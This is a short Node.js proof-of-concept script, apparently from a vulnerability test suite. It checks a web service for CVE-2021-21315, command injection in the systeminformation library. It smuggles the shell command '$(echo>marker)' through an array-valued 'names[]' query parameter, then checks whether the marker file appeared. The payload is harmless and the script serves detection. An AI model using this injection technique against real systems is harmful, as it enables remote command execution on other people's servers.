'use strict';

// CVE-2021-21315: systeminformation filters dangerous characters out of a service's name, but only
// looks at the characters of a string. A name inside an array goes to the shell as it is.
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { attack } = require('./attack');

attack(async ({ url }) => {
  // The library turns the name into lower case.
  const marker = path.join(os.tmpdir(), `attack-${crypto.randomUUID()}`).toLowerCase();
  await fetch(`${url}/status/services?names[]=${encodeURIComponent(`$(echo>${marker})`)}`, {
    signal: AbortSignal.timeout(5000),
  });
  return fs.existsSync(marker);
});
